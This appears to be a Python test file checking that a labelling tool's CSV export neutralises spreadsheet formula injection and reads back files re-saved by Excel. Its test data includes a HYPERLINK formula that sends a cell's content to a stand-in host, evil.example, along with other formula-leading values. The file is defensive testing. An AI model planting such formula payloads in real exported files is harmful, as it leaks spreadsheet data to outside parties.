"""Attack: the label file (`courtroom label --write`, `--read`, `calibrate --labels`) is made to be opened in a
spreadsheet. A case whose id, question or answer starts like a formula must open as text there (CSV injection, as
`export` already guards), and still be read back; a file saved by a spreadsheet as "CSV UTF-8" (a byte order mark,
CRLF line ends, a column added) must read as the file it is."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from courtroom.calibrate.label_file import read_labels
from courtroom.log.audit import Audit
from courtroom.log.export import FORMULA_STARTS
from tests.helpers.labels import drawn, fill, invoke, rows, world, written  # noqa: F401 (world: a fixture)
from tests.helpers.runs import judged

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("formula-labels")
    items = []
    for i, town in enumerate(["Ash", "Birch", "Cedar", "Dale"]):
        context = f"The town of {town} had {1000 + i} people. Its market is on Tuesdays."
        items.append({"id": f"{FORMULA}{i}" if i % 2 else f"+{town}", "source": "towns",
                      "question": f"@SUM(1+1) How many people lived in {town}?", "context": [context],
                      "answer": f"-2+3 {town} had {5000 + i} people.", "label": "FAIL" if i % 2 else "PASS"})
    data = tmp / "formulas.jsonl"
    data.write_text("".join(json.dumps(r) + "\n" for r in items))
    return judged(data, tmp / "run")


def test_no_label_file_cell_starts_a_formula_and_the_file_reads_back(formula_run: Path, tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    result = invoke("label", str(formula_run), "--n", "4", "--write", str(path))
    assert result.exit_code == 0, result.output
    table = rows(path)
    assert len(table) == 4
    assert not [cell for row in table for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    for row in table:
        row["label"] = "faithful"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(table[0]))
        writer.writeheader()
        writer.writerows(table)
    labels = read_labels(path, formula_run)
    assert sorted(labels) == sorted(drawn(formula_run).found)  # the ids as judged
    # a spreadsheet that saves the text without its leading ' gives the ids as judged: read back as well
    for row in table:
        row["case_id"] = row["case_id"].removeprefix("'")
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(table[0]))
        writer.writeheader()
        writer.writerows(table)
    assert read_labels(path, formula_run) == labels


def test_a_label_file_saved_by_a_spreadsheet_with_a_bom_crlf_and_a_column_reads_back(world, tmp_path: Path) -> None:  # noqa: ANN001, F811
    run, prior_file, _ = world
    labels = fill(written(run, prior_file, tmp_path / "l.csv", n=6), run)
    expected = read_labels(labels, run)
    table = rows(labels)
    saved = tmp_path / "saved.csv"
    with saved.open("w", newline="", encoding="utf-8-sig") as handle:  # Excel's "CSV UTF-8": a BOM, CRLF
        writer = csv.DictWriter(handle, fieldnames=[*table[0], "my notes"], lineterminator="\r\n")
        writer.writeheader()
        writer.writerows({**row, "my notes": "checked"} for row in table)
    assert saved.read_bytes().startswith(b"\xef\xbb\xbfcase_id")
    assert read_labels(saved, run) == expected
    mine = tmp_path / "mine"  # imported into a copy: the module's run keeps no record
    shutil.copytree(run, mine)
    result = invoke("label", str(mine), "--read", str(saved))
    assert result.exit_code == 0 and len(Audit(mine).human_labels()) == len(expected), result.output


def test_picking_a_formula_run_still_works(formula_run: Path) -> None:
    assert len(drawn(formula_run, n=2).order()[:2]) == 2


def test_labelling_a_formula_run_in_the_terminal_resumes_without_losing_a_label(formula_run: Path,
                                                                                tmp_path: Path) -> None:
    run = tmp_path / "run"
    shutil.copytree(formula_run, run)
    args = ("label", str(run), "--n", "3")
    assert invoke(*args, input="h\nf\nq\n").exit_code == 0
    assert sorted(Audit(run).human_labels().values()) == ["FAIL", "PASS"]
    result = invoke(*args, input="f\n")  # resumed: the first two labels are kept beside the third
    assert result.exit_code == 0, result.output
    assert sorted(Audit(run).human_labels().values()) == ["FAIL", "PASS", "PASS"]
    path = tmp_path / "out.csv"
    assert invoke(*args, "--write", str(path)).exit_code == 0  # exported with its labels, ids as judged
    assert len(read_labels(path, run)) == 3 and sum(v is not None for v in read_labels(path, run).values()) == 3


def test_writing_picked_cases_over_a_file_of_labels_is_refused(world, tmp_path: Path) -> None:  # noqa: ANN001, F811
    """`label RUN --from-gold` wrote to the terminal's file when not given --write: it replaced the labels a person had
    given there with the data's; `--write FILE` over a filled file emptied its label column."""
    run, prior_file, _ = world
    path = fill(written(run, prior_file, tmp_path / "labels.csv", n=4), run, keep=2)
    before = path.read_text()
    for args in (("--from-gold", "--write", str(path)), ("--write", str(path))):
        result = invoke("label", str(run), "--n", "4", *args)
        text = " ".join(result.output.split())
        assert result.exit_code == 2 and f"{path} holds 2 labels" in text, text
        assert path.read_text() == before
    assert invoke("label", str(run), "--from-gold").exit_code == 2  # the gold never goes into the record
    stranger = tmp_path / "notes.csv"
    stranger.write_text("my,own\nfile,here\n")
    result = invoke("label", str(run), "--n", "4", "--write", str(stranger))
    assert result.exit_code == 2 and "not a label file" in " ".join(result.output.split())
    assert stranger.read_text() == "my,own\nfile,here\n"
    empty = written(run, prior_file, tmp_path / "empty.csv", n=4)
    assert invoke("label", str(run), "--n", "6", "--write", str(empty)).exit_code == 0  # no label in it: re-picked
    assert len(rows(empty)) == 6
